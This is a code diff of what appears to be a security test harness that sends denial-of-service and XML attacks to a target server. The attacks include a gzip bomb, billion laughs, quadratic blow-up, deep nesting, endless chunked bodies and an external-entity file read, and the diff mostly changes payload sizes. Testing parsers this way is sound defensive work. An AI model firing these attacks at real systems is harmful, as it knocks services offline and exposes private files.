@@ -70,18 +70,18 @@ def json(target: Target, body: str) -> list[bytes]:
 
 
 def gzip_bomb(target: Target) -> Bytes:
-    return post(target, payloads.zipped(call(text("x")).encode()), Content_Encoding="gzip")
+    return post(target, payloads.zipped(payloads.begun(sized)), Content_Encoding="gzip")
 
 
 def flood(target: Target) -> Iterator[bytes]:
     yield head(target, GIGABYTE)
-    yield from payloads.flood()
+    yield from payloads.flood(sized)
 
 
 def chunks(target: Target) -> Iterator[bytes]:
     """A body that does not say how long it is, and does not end."""
     yield head(target, None, Transfer_Encoding="chunked")
-    for piece in payloads.flood():
+    for piece in payloads.flood(sized):
         yield b"%x\r\n%b\r\n" % (len(piece), piece)
 
 
@@ -108,7 +108,7 @@ ATTACKS = {
     "laughs": Attack("billion laughs", lambda at: post(at, payloads.laughs(sized))),
     "quadratic": Attack("quadratic blow-up: 1 MB that becomes 95 MB", lambda at: post(at, payloads.quadratic(sized))),
     "external": Attack("external entity: a file", lambda at: post(at, payloads.external(call, at.secret))),
-    "gzip": Attack("gzip bomb: 1 MB that becomes 1 GB", gzip_bomb),
+    "gzip": Attack("gzip bomb: 250 KB that become 256 MB", gzip_bomb),
     "deep": Attack("arrays in arrays, 100,000 deep", lambda at: post(at, payloads.deep(call))),
     "deep_json": Attack("… in JSON", lambda at: json(at, "[" * payloads.DEEP), needs_json=True),
     "length": Attack("Content-Length of 1 GB, and nothing comes", lambda at: [head(at, GIGABYTE), b"<"]),
